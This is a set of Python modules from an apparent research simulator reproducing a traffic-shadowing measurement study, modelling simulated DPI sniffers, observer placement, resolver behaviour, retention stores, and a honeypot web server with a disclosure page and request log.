        return sorted(dst for dst, sources in self._sources.items()
                      if len(sources) >= self.link_threshold)


class _TimingTracker:
    """Per-source inter-arrival regularity from virtual timestamps.

    Decoy campaigns send on a fixed spacing grid, so consecutive deltas
    from one vantage point match almost exactly — organic clients do not.
    State is keyed by source address, and every flow from a source stays
    in that source's shard, so serial and sharded runs see identical
    delta sequences.
    """

    def __init__(self):
        self._state: Dict[str, Tuple[float, Optional[float]]] = {}

    def observe(self, src: str, now: float) -> float:
        previous = self._state.get(src)
        if previous is None:
            self._state[src] = (now, None)
            return 0.0
        last_time, last_delta = previous
        delta = now - last_time
        self._state[src] = (now, delta)
        if last_delta is None or delta < 0.0:
            return 0.0
        spread = abs(delta - last_delta)
        scale = max(delta, last_delta, 1e-9)
        return max(0.0, 1.0 - spread / scale)


class CiphertextObserver:
    """One hop's ciphertext-metadata instrumentation.

    The tap sees every packet crossing the hop (same contract as
    :meth:`repro.observers.onpath.WireSniffer.tap`), runs the traffic
    classifier and the destination correlator, and reports each flow
    observation upward — attribution to a decoy is the measurement
    harness's job, not the observer's.
    """

    def __init__(self, hop, classifier: TrafficClassifier,
                 correlator: DstIpCorrelator,
                 clock: Callable[[], float],
                 report: Optional[Callable] = None):
        self.hop = hop
        self.classifier = classifier
        self.correlator = correlator
        self._clock = clock
        self.report = report
        self._timing = _TimingTracker()
        self.flows_seen = 0
        self.flows_classified = 0

    def tap(self, position: int, hop, packet: Packet) -> None:
        self.flows_seen += 1
        src = packet.ip.src
        dst = packet.ip.dst
        regularity = self._timing.observe(src, self._clock())
        features = featurize(packet)
        classified = self.classifier.classify(
            features, regularity,
            flow_keys=(self.hop.address, src, dst, features.size_bucket))
        if classified:
            self.flows_classified += 1
        self.correlator.observe(src, dst)
        if self.report is not None:
            self.report(self.hop.address, src, dst, classified)


class CiphertextDeployment:
    """Sites ciphertext observers by centrality and owns their reporting.

    Deployment is a keyed draw per hop address against the placement
    planner's probability, cached like
    :class:`~repro.observers.onpath.ObserverDeployment` decisions so the
    same routers observe regardless of path or shard materialization
    order.  ``flow_sink`` is installed by the campaign; observers report
    through the deployment so creation order never matters.
    """

    def __init__(self, planner: PlacementPlanner, zone: str, *,
                 threshold: float = 0.6, fpr: float = 0.0,
                 link_threshold: int = 3, placement_streams=None,
                 classify_streams=None, clock: Callable[[], float] = None,
                 metrics=None):
        if placement_streams is None:
            raise ValueError("deployment needs keyed placement_streams")
        self.planner = planner
        self.zone = zone
        self.classifier = TrafficClassifier(
            size_templates(zone), threshold=threshold, fpr=fpr,
            streams=classify_streams)
        self.correlator = DstIpCorrelator(link_threshold=link_threshold)
        self._placement_streams = placement_streams
        self._clock = clock if clock is not None else (lambda: 0.0)
        self._observers: Dict[str, Optional[CiphertextObserver]] = {}
        self.flow_sink: Optional[Callable] = None
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_deployed = metrics.counter("ciphertext.observers_deployed")

    def observer_for(self, hop) -> Optional[CiphertextObserver]:
        """The observer at this hop, deciding on first sight (cached)."""
        cached = self._observers.get(hop.address)
        if cached is not None or hop.address in self._observers:
            return cached
        observer: Optional[CiphertextObserver] = None
        probability = self.planner.deploy_probability(hop)
        if probability > 0.0:
            draw = self._placement_streams.derive(hop.address)
            if draw.random() < probability:
                observer = CiphertextObserver(
                    hop=hop,
                    classifier=self.classifier,
                    correlator=self.correlator,
                    clock=self._clock,
                    report=self._report,
                )
                self._m_deployed.inc()
        self._observers[hop.address] = observer
        return observer

    def deployed_observers(self) -> List[CiphertextObserver]:
        return [obs for obs in self._observers.values() if obs is not None]

    def _report(self, hop_address: str, src: str, dst: str,
                classified: bool) -> None:
        if self.flow_sink is not None:
            self.flow_sink(hop_address, src, dst, classified)

"""On-path wire sniffers.

A sniffer sits on a router hop, parses transiting packets' clear-text
fields (DNS QNAME, HTTP Host, TLS SNI), and feeds experiment-zone domains
into its shadow exhibitor.  Deployment decides — deterministically per
router — which devices carry DPI, mirroring how a Chinanet backbone box
observes many client-server paths at once.
"""

import random
from dataclasses import dataclass
from typing import Dict, List, Optional, Sequence, Tuple

from repro.net.packet import PROTO_TCP, PROTO_UDP, Packet
from repro.net.path import Hop
from repro.observers.exhibitor import ShadowExhibitor
from repro.protocols.dns import DnsMessage, is_subdomain_of
from repro.protocols.http import HttpRequest
from repro.protocols.tls import TlsPlaintext
from repro.protocols.tls.clienthello import ClientHello
from repro.protocols.tls.record import CONTENT_TYPE_HANDSHAKE
from repro.simkit.rng import SubstreamFactory
from repro.telemetry.registry import NULL_REGISTRY, labeled


def extract_domain(packet: Packet) -> Optional[Tuple[str, str]]:
    """Parse a packet's clear-text domain field.

    Returns ``(protocol, domain)`` where protocol is the *decoy* protocol
    ("dns" / "http" / "tls"), or None when no parseable domain rides the
    payload.  Dispatch is by destination port, as DPI devices do.
    """
    payload = packet.payload
    if not payload:
        return None
    port = packet.transport.dst_port
    try:
        if packet.ip.protocol == PROTO_UDP and port == 53:
            message = DnsMessage.decode(payload)
            if message.qname:
                return ("dns", message.qname)
        elif packet.ip.protocol == PROTO_TCP and port == 80:
            request = HttpRequest.decode(payload)
            if request.host:
                return ("http", request.host.lower().rstrip("."))
        elif packet.ip.protocol == PROTO_TCP and port == 443:
            record = TlsPlaintext.decode(payload)
            if record.content_type == CONTENT_TYPE_HANDSHAKE:
                hello = ClientHello.decode(record.fragment)
                if hello.server_name:
                    return ("tls", hello.server_name.lower().rstrip("."))
    except ValueError:
        return None
    return None


class WireSniffer:
    """DPI at one router, bound to a shadow exhibitor."""

    def __init__(self, hop: Hop, protocols: Sequence[str],
                 exhibitor: ShadowExhibitor, zone: str, metrics=None,
                 report=None):
        self.hop = hop
        self.protocols = tuple(protocols)
        self.exhibitor = exhibitor
        self.zone = zone
        self._report = report
        """Optional ``(domain, hop_address)`` callback fired per capture —
        the deployment forwards it to the campaign's matrix feed."""
        self.packets_seen = 0
        self.domains_captured = 0
        metrics = metrics if metrics is not None else NULL_REGISTRY
        self._m_packets = metrics.counter("onpath.packets_inspected")
        self._m_captured = {
            protocol: metrics.counter(
                labeled("onpath.domains_captured", protocol=protocol))
            for protocol in ("dns", "http", "tls")
        }

    def tap(self, position: int, hop: Hop, packet: Packet) -> None:
        """Path-tap callback: inspect one transiting packet."""
        self.packets_seen += 1
        self._m_packets.inc()
        extracted = extract_domain(packet)
        if extracted is None:
            return
        protocol, domain = extracted
        if protocol not in self.protocols:
            return
        if not is_subdomain_of(domain, self.zone):
            return
        self.domains_captured += 1
        self._m_captured[protocol].inc()
        self.exhibitor.observe(domain, observed_from=self.hop.address)
        if self._report is not None:
            self._report(domain, self.hop.address)


@dataclass(frozen=True)
class SnifferSpec:
    """Deployment rule: which routers of an AS carry which DPI."""

    asn: int
    router_fraction: float
    protocols: Tuple[str, ...]
    policy_name: str
    """Key into the deployment's policy table."""

    def __post_init__(self):
        if not 0.0 <= self.router_fraction <= 1.0:
            raise ValueError(
                f"router_fraction must be in [0, 1], got {self.router_fraction}"
            )


class ObserverDeployment:
    """Assigns sniffers to routers, deterministically per address.

    One router gets at most one sniffer; the decision and the exhibitor
    binding are cached so that every path crossing the router shares the
    same observer — the property Table 3 aggregates on.
    """

    def __init__(self, specs: Sequence[SnifferSpec],
                 exhibitors: Dict[str, ShadowExhibitor],
                 zone: str, rng: random.Random,
                 streams: Optional[SubstreamFactory] = None,
                 metrics=None):
        self._specs_by_asn: Dict[int, List[SnifferSpec]] = {}
        for spec in specs:
            if spec.policy_name not in exhibitors:
                raise ValueError(f"no exhibitor registered for {spec.policy_name!r}")
            self._specs_by_asn.setdefault(spec.asn, []).append(spec)
        self._exhibitors = exhibitors
        self._zone = zone
        self._rng = rng
        self._streams = streams
        """When set, the per-router deployment decision is keyed by the hop
        address instead of first-sight order on the shared ``rng`` — so a
        router carries the same DPI regardless of which path (or shard)
        materializes it first."""
        self._metrics = metrics
        self._decisions: Dict[str, Optional[WireSniffer]] = {}
        self.flow_sink = None
        """Optional ``(domain, hop_address)`` callback, fired for every
        clear-text capture by any deployed sniffer.  Forwarding lives on
        the deployment (not the sniffers) so the sink can be installed
        after routers have already materialized sniffers."""

    def _forward_flow(self, domain: str, hop_address: str) -> None:
        if self.flow_sink is not None:
            self.flow_sink(domain, hop_address)

    def sniffer_for(self, hop: Hop) -> Optional[WireSniffer]:
        """The sniffer at this router, if deployment placed one there."""
        if hop.address in self._decisions:
            return self._decisions[hop.address]
        rng = (self._streams.derive(hop.address)
               if self._streams is not None else self._rng)
        sniffer: Optional[WireSniffer] = None
        for spec in self._specs_by_asn.get(hop.asn, []):
            if rng.random() < spec.router_fraction:
                sniffer = WireSniffer(
                    hop=hop,
                    protocols=spec.protocols,
                    exhibitor=self._exhibitors[spec.policy_name],
                    zone=self._zone,
                    metrics=self._metrics,
                    report=self._forward_flow,
                )
                break
        self._decisions[hop.address] = sniffer
        return sniffer

    def deployed_sniffers(self) -> List[WireSniffer]:
        return [sniffer for sniffer in self._decisions.values() if sniffer is not None]

"""Capacity-bounded retention stores.

Section 5.2 observes that data from HTTP/TLS decoys is retained for a
shorter time than DNS decoy data, and attributes it to "the limited
storage capacity of routing devices serving as traffic observers".  This
module makes that hypothesis a mechanism: a FIFO store of observed items
that evicts the oldest entry when full, cancelling any unsolicited
requests the evicted item still had scheduled.  The retention-capacity
extension benchmark shows the paper's shorter-on-the-wire CDF emerging
from eviction pressure alone.
"""

from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.simkit.events import Event


@dataclass
class RetainedItem:
    """One observed datum and its pending scheduled uses."""

    domain: str
    observed_at: float
    pending: List[Event] = field(default_factory=list)

    def cancel_pending(self) -> int:
        cancelled = 0
        for event in self.pending:
            if not event.cancelled:
                event.cancel()
                cancelled += 1
        self.pending.clear()
        return cancelled


class RetentionStore:
    """FIFO observed-data store with bounded capacity.

    ``capacity=None`` means unbounded — the behaviour of a destination
    operator with a passive-DNS warehouse.  A small capacity models a
    DPI box's on-device buffer.
    """

    def __init__(self, capacity: Optional[int] = None):
        if capacity is not None and capacity < 1:
            raise ValueError(f"capacity must be positive or None, got {capacity}")
        self.capacity = capacity
        self._items: Dict[str, RetainedItem] = {}
        self._order: List[str] = []
        self.evictions = 0
        self.cancelled_requests = 0

    def __len__(self) -> int:
        return len(self._items)

    def __contains__(self, domain: str) -> bool:
        return domain in self._items

    def admit(self, domain: str, now: float) -> RetainedItem:
        """Store one observation, evicting the oldest item if full."""
        if domain in self._items:
            return self._items[domain]
        if self.capacity is not None and len(self._items) >= self.capacity:
            oldest = self._order.pop(0)
            evicted = self._items.pop(oldest)
            self.cancelled_requests += evicted.cancel_pending()
            self.evictions += 1
        item = RetainedItem(domain=domain, observed_at=now)
        self._items[domain] = item
        self._order.append(domain)
        return item

    def attach(self, domain: str, event: Event) -> None:
        """Tie a scheduled unsolicited request to its stored item, so
        eviction cancels it."""
        item = self._items.get(domain)
        if item is None:
            # Already evicted before the caller attached: the data is
            # gone, so the request must not fire.
            event.cancel()
            self.cancelled_requests += 1
            return
        item.pending.append(event)

    def items(self) -> List[RetainedItem]:
        return [self._items[domain] for domain in self._order]

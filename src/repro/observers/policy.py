"""Shadow policies and origin pools.

A :class:`ShadowPolicy` is the behavioural fingerprint of one exhibitor:
how likely observed data is to be leveraged, after what delay, over which
protocols, how many times, and from which networks the unsolicited
requests originate.  Section 5 of the paper characterizes exhibitors along
exactly these axes.
"""

import hashlib
from dataclasses import dataclass, field
from typing import Dict, Optional, Sequence, Tuple

import random

from repro.intel.blocklist import Blocklist
from repro.intel.directory import IpDirectory
from repro.net.addr import ip_from_int
from repro.simkit.distributions import Constant, Distribution

# Unsolicited-request origin addresses live in 100.88.0.0-100.95.255.255:
# above the router fabric, below the vantage-point pool.
_ORIGIN_SPACE_BASE = (100 << 24) | (88 << 16)
_ORIGIN_SPACE_SIZE = 1 << 19


class AddressAllocator:
    """Deterministic, collision-free address allocation inside one space."""

    def __init__(self, base: int = _ORIGIN_SPACE_BASE, size: int = _ORIGIN_SPACE_SIZE):
        self._base = base
        self._size = size
        self._by_key: Dict[str, str] = {}
        self._used: set = set()

    def allocate(self, key: str) -> str:
        """The address for ``key``; stable across calls and run orders."""
        if key in self._by_key:
            return self._by_key[key]
        digest = hashlib.sha256(key.encode()).digest()
        offset = int.from_bytes(digest[:8], "big") % self._size
        while offset in self._used:
            offset = (offset + 1) % self._size
        self._used.add(offset)
        address = ip_from_int(self._base + offset)
        self._by_key[key] = address
        return address


@dataclass(frozen=True)
class OriginGroup:
    """One network that unsolicited requests originate from."""

    asn: int
    country: str
    weight: float
    blocklist_rate: float
    """Probability that an address in this group is on the IP blocklist."""
    address_count: int = 8
    protocols: Optional[Tuple[str, ...]] = None
    """Restrict this group to specific request protocols (None = any)."""


class OriginPool:
    """Weighted source-address pool for one exhibitor's requests.

    Addresses are allocated deterministically per (exhibitor, group,
    index), registered in the :class:`IpDirectory` (so Figure 6's origin-AS
    analysis can attribute them) and in the :class:`Blocklist` according to
    each group's listing rate.
    """

    def __init__(
        self,
        name: str,
        groups: Sequence[OriginGroup],
        allocator: AddressAllocator,
        directory: IpDirectory,
        blocklist: Blocklist,
        rng: random.Random,
    ):
        if not groups:
            raise ValueError("origin pool needs at least one group")
        total = sum(group.weight for group in groups)
        if total <= 0:
            raise ValueError("origin group weights must sum to a positive value")
        self.name = name
        self.groups = tuple(groups)
        self._weights = [group.weight / total for group in groups]
        self._addresses: Dict[int, Tuple[str, ...]] = {}
        for index, group in enumerate(groups):
            allocated = []
            for slot in range(group.address_count):
                address = allocator.allocate(f"origin:{name}:{index}:{slot}")
                directory.register(address, group.asn, group.country, role="origin")
                blocklist.maybe_add(address, group.blocklist_rate, rng)
                allocated.append(address)
            self._addresses[index] = tuple(allocated)

    def pick(self, rng: random.Random, protocol: str) -> str:
        """One origin address for a request over ``protocol``."""
        eligible = [
            (index, weight)
            for index, (group, weight) in enumerate(zip(self.groups, self._weights))
            if group.protocols is None or protocol in group.protocols
        ]
        if not eligible:
            eligible = list(enumerate(self._weights))
        point = rng.random() * sum(weight for _, weight in eligible)
        running = 0.0
        chosen = eligible[-1][0]
        for index, weight in eligible:
            running += weight
            if point <= running:
                chosen = index
                break
        addresses = self._addresses[chosen]
        return addresses[rng.randrange(len(addresses))]

    def all_addresses(self) -> Tuple[str, ...]:
        return tuple(
            address for addresses in self._addresses.values() for address in addresses
        )


@dataclass
class ShadowPolicy:
    """Behavioural parameters of one shadowing exhibitor."""

    name: str
    delay: Distribution
    """Time between observation and each unsolicited request."""
    uses: Distribution
    """How many unsolicited requests one observation produces."""
    protocol_weights: Dict[str, float]
    """Mix over "dns" / "http" / "https" for unsolicited requests."""
    origin_pool: OriginPool
    observe_probability: float = 1.0
    """Fraction of exposed decoys this exhibitor actually leverages."""
    http_enumeration_rate: float = 0.95
    """Fraction of HTTP(S) requests performing path enumeration
    (Section 5.1: ~95%; the rest fetch the root page)."""

    def __post_init__(self):
        if not 0.0 <= self.observe_probability <= 1.0:
            raise ValueError(
                f"observe_probability must be in [0, 1], got {self.observe_probability}"
            )
        if not self.protocol_weights:
            raise ValueError("policy needs at least one protocol weight")
        bad = set(self.protocol_weights) - {"dns", "http", "https"}
        if bad:
            raise ValueError(f"unknown protocols in policy: {sorted(bad)}")
        if sum(self.protocol_weights.values()) <= 0:
            raise ValueError("protocol weights must sum to a positive value")

    def pick_protocol(self, rng: random.Random) -> str:
        total = sum(self.protocol_weights.values())
        point = rng.random() * total
        running = 0.0
        for protocol, weight in self.protocol_weights.items():
            running += weight
            if point <= running:
                return protocol
        return next(iter(self.protocol_weights))

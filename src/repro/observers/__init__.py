"""Traffic-shadowing exhibitor models.

Observers are the measured phenomenon: parties that record domain names
from transiting or terminating traffic and later emit unsolicited requests
bearing them.  The package models the paper's ecosystem —

* destination resolvers with benign retries and/or shadowing pipelines
  (:mod:`repro.observers.resolver`),
* on-path wire sniffers pinned to router hops
  (:mod:`repro.observers.onpath`),
* shadowing web destinations for HTTP/TLS decoys
  (:mod:`repro.observers.webdest`),
* DNS interceptors as a noise source (:mod:`repro.observers.interceptor`),

all driven by :class:`~repro.observers.policy.ShadowPolicy` descriptions of
retention delay, protocol choice, reuse count, and origin networks.
"""

from repro.observers.exhibitor import GroundTruth, ObservationRecord, ShadowExhibitor, UnsolicitedEmitter
from repro.observers.interceptor import DnsInterceptor
from repro.observers.onpath import ObserverDeployment, SnifferSpec, WireSniffer
from repro.observers.policy import (
    AddressAllocator,
    OriginGroup,
    OriginPool,
    ShadowPolicy,
)
from repro.observers.resolver import ResolverModel, ResolverProfile
from repro.observers.retention import RetainedItem, RetentionStore
from repro.observers.webdest import WebDestinationBehavior, WebDestinationModel

__all__ = [
    "ShadowPolicy",
    "OriginGroup",
    "OriginPool",
    "AddressAllocator",
    "ShadowExhibitor",
    "UnsolicitedEmitter",
    "GroundTruth",
    "ObservationRecord",
    "WireSniffer",
    "SnifferSpec",
    "ObserverDeployment",
    "ResolverProfile",
    "ResolverModel",
    "RetentionStore",
    "RetainedItem",
    "WebDestinationModel",
    "WebDestinationBehavior",
    "DnsInterceptor",
]

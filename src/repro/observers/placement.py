"""Strategic observer placement over topology hops.

Gosain et al. studied where to put *decoy routers* so that a small number
of vantage points intercepts most paths; an adversary siting traffic
observers faces the inverted problem with the same answer — high-
centrality hops.  In our synthetic topology centrality tracks the AS
role: every international path crosses a backbone segment, cross-country
paths additionally cross one transit AS, while access and destination
segments each see only their own edge's traffic.

The planner turns an operator-level deployment share into a per-hop
deployment probability by scaling the share with the hop's centrality
weight, so a `ciphertext_observer_share` of 0.3 concentrates observers
on backbones (weight 1.0) and transits (0.85) rather than spreading
them uniformly like :class:`~repro.observers.onpath.SnifferSpec`
fractions do.
"""

from typing import FrozenSet, Iterable

from repro.datasets.asns import ASES_BY_NUMBER, CN_BACKBONE_ASNS, SYNTHETIC_ASN_BASE

BACKBONE_WEIGHT = 1.0
TRANSIT_WEIGHT = 0.85
EDGE_WEIGHT = 0.2

# Synthetic AS index windows carved out by repro.topology.model: one
# backbone per country at 10_000 + hash % 4096, one transit AS per
# country pair at 20_000 + hash % 4096.
_SYNTH_BACKBONE_RANGE = range(10_000, 10_000 + 4096)
_SYNTH_TRANSIT_RANGE = range(20_000, 20_000 + 4096)


class PlacementPlanner:
    """Maps hops to deployment probabilities by topological centrality."""

    def __init__(self, share: float,
                 extra_backbone_asns: Iterable[int] = ()):
        if not 0.0 <= share <= 1.0:
            raise ValueError(f"share must be in [0, 1], got {share}")
        self.share = share
        self.extra_backbone_asns: FrozenSet[int] = frozenset(extra_backbone_asns)
        """Real ASNs serving as backbones via TopologyConfig.named_backbones
        (e.g. Rogers for CA) — their registry kind says 'isp', so role
        classification by ASN alone would miss them."""

    def centrality_weight(self, hop) -> float:
        """The hop's share multiplier; destinations are never observed."""
        if getattr(hop, "is_destination", False):
            return 0.0
        asn = hop.asn
        if asn >= SYNTHETIC_ASN_BASE:
            index = asn - SYNTHETIC_ASN_BASE
            if index in _SYNTH_BACKBONE_RANGE:
                return BACKBONE_WEIGHT
            if index in _SYNTH_TRANSIT_RANGE:
                return TRANSIT_WEIGHT
            return EDGE_WEIGHT
        if asn in CN_BACKBONE_ASNS or asn in self.extra_backbone_asns:
            return BACKBONE_WEIGHT
        record = ASES_BY_NUMBER.get(asn)
        if record is not None and record.kind == "backbone":
            return BACKBONE_WEIGHT
        return EDGE_WEIGHT

    def deploy_probability(self, hop) -> float:
        """Probability this hop hosts a ciphertext-metadata observer."""
        return min(1.0, self.share * self.centrality_weight(hop))

"""Destination DNS resolver behaviour.

Section 4 locates 99.7% of DNS shadowing at destination resolvers, so
resolver modelling carries most of the DNS findings:

* **Recursion** — a public resolver receiving the decoy query recurses to
  the experiment zone's authoritative server (the honeypot); this is the
  "initial decoy" appearance that classification rule (iii) keys on.
* **Benign retries** — some resolvers re-query within a minute (the
  sub-minute DNS-DNS mass of Figure 4).
* **Shadowing** — Resolver_h members hand observed names to a shadow
  exhibitor; for anycast services only instances in configured countries
  do (the 114DNS CN/US split of Case Study II).
* **Non-recursive destinations** (roots, TLDs) answer with referrals and
  never contact the honeypot, matching the paper's null result there.
"""

import random
from dataclasses import dataclass, field
from typing import Dict, Optional, Tuple

from repro.datasets.resolvers import DnsDestination
from repro.honeypot.deployment import HoneypotDeployment
from repro.observers.exhibitor import ShadowExhibitor
from repro.protocols.dns import make_query
from repro.simkit.events import Simulator
from repro.simkit.rng import SubstreamFactory
from repro.telemetry.registry import NULL_REGISTRY, labeled


@dataclass(frozen=True)
class ResolverProfile:
    """Static behaviour description of one DNS destination."""

    destination: DnsDestination
    asn: int
    recursive: bool
    retry_probability: float = 0.0
    retry_count: Tuple[int, int] = (1, 2)
    retry_window: float = 50.0
    """Retries land uniformly within this many seconds of the decoy."""
    shadow_exhibitor: Optional[str] = None
    """Policy name of the exhibitor this resolver feeds, if any."""
    shadow_countries: Tuple[str, ...] = ()
    """Anycast: instance countries that shadow. Empty = all instances."""
    cache_refresh_probability: float = 0.0
    """Fraction of names this resolver's cache actively refreshes on TTL
    expiry (ICANN ITHI M5 behaviour).  Zero by default: the paper rules
    this mechanism out for the measured resolvers, and the wildcard-TTL
    ablation turns it on to show the spike it would create."""
    cache_refresh_ttl: float = 3600.0
    """Record TTL the refresher honours (the experiment wildcard's TTL)."""
    cache_refresh_count: int = 2
    """How many consecutive refreshes keep the name warm."""

    def shadows_at(self, instance_country: str) -> bool:
        if self.shadow_exhibitor is None:
            return False
        if not self.shadow_countries:
            return True
        return instance_country in self.shadow_countries


class ResolverModel:
    """Runtime behaviour of one DNS destination."""

    def __init__(
        self,
        profile: ResolverProfile,
        sim: Simulator,
        deployment: HoneypotDeployment,
        exhibitor: Optional[ShadowExhibitor],
        egress_address: str,
        rng: random.Random,
        streams: Optional[SubstreamFactory] = None,
        metrics=None,
    ):
        if profile.shadow_exhibitor is not None and exhibitor is None:
            raise ValueError(
                f"profile {profile.destination.name} names an exhibitor but none was bound"
            )
        self.profile = profile
        self._sim = sim
        self._deployment = deployment
        self._exhibitor = exhibitor
        self.egress_address = egress_address
        self._rng = rng
        self._streams = streams
        """When set, per-decoy behaviour draws come from a substream keyed
        by the decoy domain instead of the shared sequential ``rng`` —
        making the outcome independent of arrival order across shards
        (``rng`` then only feeds unobservable wire fields like txids)."""
        self._arrivals: Dict[str, int] = {}
        self.decoys_received = 0
        metrics = metrics if metrics is not None else NULL_REGISTRY
        name = profile.destination.name
        self._m_received = metrics.counter(
            labeled("resolver.decoys_received", destination=name))
        self._m_shadowed = metrics.counter(
            labeled("resolver.shadow_observations", destination=name))

    @property
    def name(self) -> str:
        return self.profile.destination.name

    def receive_decoy(self, domain: str, instance_country: str) -> None:
        """Handle one delivered decoy query for ``domain``."""
        self.decoys_received += 1
        self._m_received.inc()
        if self._streams is not None:
            arrival = self._arrivals.get(domain, 0)
            self._arrivals[domain] = arrival + 1
            rng = self._streams.derive(self.name, domain, arrival)
        else:
            rng = self._rng
        if self.profile.recursive:
            # Recursive lookup toward the honeypot authoritative server —
            # the decoy's first (solicited) appearance in the logs.
            self._sim.schedule_in(
                rng.uniform(0.02, 0.4),
                lambda domain=domain: self._query_authoritative(domain),
                label=f"recursion:{self.name}",
            )
            if rng.random() < self.profile.retry_probability:
                low, high = self.profile.retry_count
                for _ in range(rng.randint(low, high)):
                    self._sim.schedule_in(
                        rng.uniform(1.0, self.profile.retry_window),
                        lambda domain=domain: self._query_authoritative(domain),
                        label=f"retry:{self.name}",
                    )
        if self.profile.recursive and self.profile.cache_refresh_probability > 0:
            if rng.random() < self.profile.cache_refresh_probability:
                for generation in range(1, self.profile.cache_refresh_count + 1):
                    self._sim.schedule_in(
                        generation * self.profile.cache_refresh_ttl
                        + rng.uniform(0.0, 2.0),
                        lambda domain=domain: self._query_authoritative(domain),
                        label=f"cache-refresh:{self.name}",
                    )
        if self.profile.shadows_at(instance_country) and self._exhibitor is not None:
            self._m_shadowed.inc()
            self._exhibitor.observe(
                domain, observed_from=self.profile.destination.address
            )

    def _query_authoritative(self, domain: str) -> None:
        wire = make_query(domain, txid=self._rng.randrange(0x10000)).encode()
        server = self._deployment.authoritative_for(self.egress_address)
        server.handle_query(wire, self.egress_address, self._sim.now())

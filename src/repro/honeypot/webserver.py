"""The honey website.

Serves a disclosure page on ``/`` (the ethics appendix documents the
experiment's purpose and contact information there) and 404s everything
else — unsolicited path-enumeration probes therefore harvest nothing, but
every request is logged with its full path for incentive analysis.
"""

from typing import Optional

from repro.honeypot.logstore import LoggedRequest, LogStore, PROTOCOL_HTTP, PROTOCOL_HTTPS
from repro.protocols.http import HttpRequest, HttpResponse

DISCLOSURE_PAGE = b"""<html>
<head><title>Network measurement experiment</title></head>
<body>
<h1>Internet traffic shadowing measurement</h1>
<p>This server is part of an academic measurement of traffic shadowing
behaviors. Domains under this zone are generated for the experiment and
carry no user data. If your systems reached this page unexpectedly,
contact the research team at the address in WHOIS for this domain.</p>
</body>
</html>
"""


class HoneyWebServer:
    """HTTP(S) honeypot endpoint at one site."""

    def __init__(self, address: str, log: LogStore, site: str):
        self.address = address
        self._log = log
        self.site = site
        self.requests_served = 0

    def handle_request(self, wire: bytes, src_address: str, now: float,
                       over_tls: bool = False) -> bytes:
        """Parse request bytes, log them, and return response bytes."""
        request = HttpRequest.decode(wire)
        host = request.host or ""
        self._log.append(
            LoggedRequest(
                time=now,
                site=self.site,
                protocol=PROTOCOL_HTTPS if over_tls else PROTOCOL_HTTP,
                src_address=src_address,
                domain=host.lower().rstrip("."),
                path=request.path,
                user_agent=request.header("user-agent"),
            )
        )
        self.requests_served += 1
        if request.path == "/":
            response = HttpResponse(
                status=200,
                reason="OK",
                headers=(("Content-Type", "text/html"), ("Server", "honeypot")),
                body=DISCLOSURE_PAGE,
            )
        else:
            response = HttpResponse(
                status=404,
                reason="Not Found",
                headers=(("Content-Type", "text/plain"), ("Server", "honeypot")),
                body=b"not found",
            )
        return response.encode()

"""Unified, append-only request log shared by all honeypot services."""

import bisect
from dataclasses import dataclass, field
from typing import Dict, Iterator, List, Optional, Tuple

PROTOCOL_DNS = "dns"
PROTOCOL_HTTP = "http"
PROTOCOL_HTTPS = "https"
KNOWN_PROTOCOLS = (PROTOCOL_DNS, PROTOCOL_HTTP, PROTOCOL_HTTPS)


@dataclass(frozen=True)
class LoggedRequest:
    """One request that arrived at a honeypot.

    ``domain`` is the experiment name the request carried (QNAME, Host, or
    SNI); correlation decodes the identifier embedded in it.
    """

    time: float
    site: str
    protocol: str
    src_address: str
    domain: str
    path: Optional[str] = None
    """Request path for HTTP(S); None for DNS."""
    qtype: Optional[int] = None
    """Query type for DNS; None otherwise."""
    user_agent: Optional[str] = None

    def __post_init__(self):
        if self.protocol not in KNOWN_PROTOCOLS:
            raise ValueError(f"unknown protocol {self.protocol!r}")


class LogStore:
    """Append-only log with by-domain and by-time retrieval.

    Entries are appended in event order (the simulator guarantees
    monotonic time), so time-windowed queries can bisect.
    """

    def __init__(self):
        self._entries: List[LoggedRequest] = []
        self._by_domain: Dict[str, List[int]] = {}

    def append(self, entry: LoggedRequest) -> None:
        if self._entries and entry.time < self._entries[-1].time:
            raise ValueError(
                f"log must be appended in time order: {entry.time} after "
                f"{self._entries[-1].time}"
            )
        self._by_domain.setdefault(entry.domain, []).append(len(self._entries))
        self._entries.append(entry)

    def __len__(self) -> int:
        return len(self._entries)

    def __iter__(self) -> Iterator[LoggedRequest]:
        return iter(self._entries)

    def all(self) -> Tuple[LoggedRequest, ...]:
        return tuple(self._entries)

    def for_domain(self, domain: str) -> List[LoggedRequest]:
        """All requests bearing ``domain``, in arrival order."""
        return [self._entries[index] for index in self._by_domain.get(domain, [])]

    def domains(self) -> List[str]:
        return list(self._by_domain)

    def between(self, start: float, end: float) -> List[LoggedRequest]:
        """Entries with ``start <= time < end``."""
        times = [entry.time for entry in self._entries]
        low = bisect.bisect_left(times, start)
        high = bisect.bisect_left(times, end)
        return self._entries[low:high]

    def by_protocol(self, protocol: str) -> List[LoggedRequest]:
        return [entry for entry in self._entries if entry.protocol == protocol]

"""Unified, append-only request log shared by all honeypot services.

Storage is columnar: one ``array`` per :class:`LoggedRequest` field, with
every string routed through a shared :class:`~repro.core.columnar.
StringTable` — sites, protocols, source addresses, and (heavily repeated)
domains become 4-byte references instead of object pointers.  A paper-
scale campaign logs millions of requests; the columns keep that at tens
of bytes per row where one dataclass instance per row costs hundreds.

Rows materialize back into :class:`LoggedRequest` objects on demand
through a weak-value cache: while anything holds a row's object (a
correlation event, a wire payload under construction), every read of
that row returns the *same* object — the identity contract the wire
codec's cross-reference tables rely on — and once nothing does, the
object is collectable again.
"""

import bisect
import weakref
from array import array
from dataclasses import dataclass
from typing import Dict, Iterator, List, Optional, Sequence, Tuple

from repro.core.columnar import NONE_REF, StringTable, merged_order
from repro.telemetry.registry import NULL_REGISTRY, labeled

PROTOCOL_DNS = "dns"
PROTOCOL_HTTP = "http"
PROTOCOL_HTTPS = "https"
KNOWN_PROTOCOLS = (PROTOCOL_DNS, PROTOCOL_HTTP, PROTOCOL_HTTPS)


@dataclass(frozen=True)
class LoggedRequest:
    """One request that arrived at a honeypot.

    ``domain`` is the experiment name the request carried (QNAME, Host, or
    SNI); correlation decodes the identifier embedded in it.
    """

    time: float
    site: str
    protocol: str
    src_address: str
    domain: str
    path: Optional[str] = None
    """Request path for HTTP(S); None for DNS."""
    qtype: Optional[int] = None
    """Query type for DNS; None otherwise."""
    user_agent: Optional[str] = None

    def __post_init__(self):
        if self.protocol not in KNOWN_PROTOCOLS:
            raise ValueError(f"unknown protocol {self.protocol!r}")


class LogStore:
    """Append-only columnar log with by-domain and by-time retrieval.

    Entries are appended in event order (the simulator guarantees
